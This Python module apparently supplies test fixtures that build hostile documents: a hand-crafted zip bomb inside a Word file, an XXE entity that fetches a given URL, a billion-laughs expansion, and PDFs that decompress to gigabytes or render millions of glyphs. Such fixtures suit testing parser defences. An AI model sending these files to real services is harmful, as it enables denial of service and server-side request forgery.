"""Files made to harm who reads them."""

import io
import struct
import zipfile
import zlib

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="{target}"{mode} Type='
    '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
_DOCUMENT = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{}</w:body></w:document>'
_PARAGRAPH = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"


def docx(
    text: str = "Tin melts early.",
    *,
    document: bytes | None = None,
    head: str = "",
    target: str = "word/document.xml",
    mode: str = "",
    more: dict[str, bytes] | None = None,
) -> bytes:
    """A Word file; `head` stands before its document's element, `more` are further members of the archive."""
    body = document if document is not None else (head + _DOCUMENT.format(_PARAGRAPH.format(text))).encode()
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("_rels/.rels", _RELATIONS.format(target=target, mode=mode))
        archive.writestr("word/document.xml", body)
        for name, content in (more or {}).items():
            archive.writestr(name, content)
    return packed.getvalue()


_STEP = 10_000_000


def zeros(steps: int) -> bytes:
    """The raw deflate stream of `steps` times ten million zeros, made without compressing all of them."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    step = packer.compress(b"\0" * _STEP) + packer.flush(zlib.Z_FULL_FLUSH)
    return step * steps + b"\x03\x00"


def zip_bomb(steps: int = 300) -> bytes:
    """A Word file of some megabytes whose document has `steps` times ten million bytes."""
    members = [
        ("[Content_Types].xml", _TYPES.encode(), None),
        ("_rels/.rels", _RELATIONS.format(target="word/document.xml", mode="").encode(), None),
        ("word/document.xml", zeros(steps), steps * _STEP),
    ]
    out, directory = bytearray(), bytearray()
    for name, content, size in members:
        check = 0 if size else zlib.crc32(content)
        facts = struct.pack(
            "<HHHHHIIIHH", 20, 0, 8 if size else 0, 0, 0, check, len(content), size or len(content), len(name), 0
        )
        directory += b"PK\x01\x02\x14\0" + facts + struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + name.encode()
        out += b"PK\x03\x04" + facts + name.encode() + content
    end = struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(directory), len(out), 0)
    return bytes(out + directory + b"PK\x05\x06" + end)


def xxe(url: str) -> bytes:
    """A Word file whose document asks for `url`."""
    head = f'<!DOCTYPE w [<!ENTITY % p SYSTEM "{url}"> %p; <!ENTITY x SYSTEM "{url}">]>'
    return docx("before &x; after", head=head)


def laughs(depth: int = 10) -> bytes:
    """A Word file whose entities multiply by ten `depth` times."""
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, depth))
    return docx(f"&a{depth - 1};", head=f"<!DOCTYPE w [{entities}]>")


def pdf(content: bytes, *, more: str = "", filters: str = "/FlateDecode", packed: bytes | None = None) -> bytes:
    """A PDF of one page with this content stream."""
    stream = zlib.compress(content, 9) if packed is None else packed
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>"
        + more.encode()
        + b">>>>",
        f"<</Length {len(stream)}/Filter{filters}>>stream\n".encode() + stream + b"\nendstream",
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + one + b"\nendobj\n"
    table = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    out += f"trailer\n<</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{table}\n%%EOF\n".encode()
    return bytes(out)


def pdf_memory_bomb() -> bytes:
    """A PDF of some kilobytes whose page unpacks, twice over, to gigabytes."""
    once = b"\x78\xda" + zeros(200) + b"\0\0\0\0"
    return pdf(b"", filters="[/FlateDecode/FlateDecode]", packed=zlib.compress(once, 9))


def pdf_time_bomb(count: int = 3_000_000) -> bytes:
    """A PDF whose page shows a letter `count` times, each by itself."""
    return pdf(b"BT /F1 9 Tf " + b"(a) Tj 1 0 0 1 3 3 Tm " * count + b"ET")
